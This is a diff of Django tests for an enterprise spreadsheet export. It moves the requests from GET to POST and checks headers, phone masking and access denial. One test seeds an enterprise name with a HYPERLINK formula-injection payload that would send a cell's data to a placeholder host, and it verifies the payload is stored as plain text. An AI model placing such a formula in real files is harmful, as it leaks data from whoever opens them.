@@ -205,14 +205,14 @@ class EnterpriseListTests(PersonaTestCase):
 class EnterpriseExportTests(PersonaTestCase):
     def rows(self, user, query=""):
         self.login(user)
-        response = self.client.get(EXPORT + query)
+        response = self.client.post(EXPORT + query)
         self.assertEqual(response.status_code, 200)
         self.assertEqual(
             response["Content-Type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
         )
         self.assertIn("attachment;", response["Content-Disposition"])
         self.assertIn(".xlsx", response["Content-Disposition"])
-        sheet = load_workbook(BytesIO(response.content), read_only=True).active
+        sheet = load_workbook(BytesIO(response.getvalue()), read_only=True).active
         return list(sheet.iter_rows(values_only=True))
 
     def test_it_exports_the_visible_rows_with_masked_phones(self):
@@ -228,7 +228,7 @@ class EnterpriseExportTests(PersonaTestCase):
         name = '=HYPERLINK("http://x/?"&B2,"点击")'
         make_enterprise(self.home_region, name, employees=37)
         self.login(self.district)
-        sheet = load_workbook(BytesIO(self.client.get(EXPORT).content)).active
+        sheet = load_workbook(BytesIO(self.client.post(EXPORT).getvalue())).active
         row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)
 
         self.assertEqual(row[0].data_type, "s")
@@ -250,7 +250,7 @@ class EnterpriseExportTests(PersonaTestCase):
         for user in [self.enterprise_user, self.expert, self.outsider]:
             self.login(user)
             with self.subTest(user=user.username):
-                self.assertEqual(self.client.get(EXPORT).status_code, 403)
+                self.assertEqual(self.client.post(EXPORT).status_code, 403)
 
 
 class EnterpriseCreateTests(PersonaTestCase):
